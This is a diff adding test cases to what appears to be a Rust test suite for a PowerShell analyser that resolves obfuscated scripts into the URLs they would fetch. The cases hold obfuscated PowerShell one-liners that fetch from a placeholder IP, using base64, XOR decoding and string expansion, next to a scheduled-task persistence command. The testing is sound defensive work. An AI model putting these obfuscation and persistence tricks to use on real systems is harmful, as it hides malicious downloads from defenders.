@@ -449,6 +449,16 @@ schtasks /create /tn Upd /tr C:\a.exe /sc minute /f",
         &["fetch http://192.0.2.7/a"],
     ),
     (
+        "bytes flow one by one",
+        "$b=[Convert]::FromBase64String('Cgc=');$k='key';$u='';$b | % -Begin {$i=0} -Process {$u+=[char]($_ -bxor [int]$k[$i++ % $k.Length])};irm \"http://192.0.2.7/$u\"",
+        &["fetch http://192.0.2.7/ab"],
+    ),
+    (
+        "expanded text",
+        "$x='192.0.2.7';irm $ExecutionContext.InvokeCommand.ExpandString('http://$x/a')",
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
         "do until",
         r#"$i=0;do{irm "http://192.0.2.7/$i";$i++}until($i -ge 2)"#,
         &["fetch http://192.0.2.7/0", "fetch http://192.0.2.7/1"],
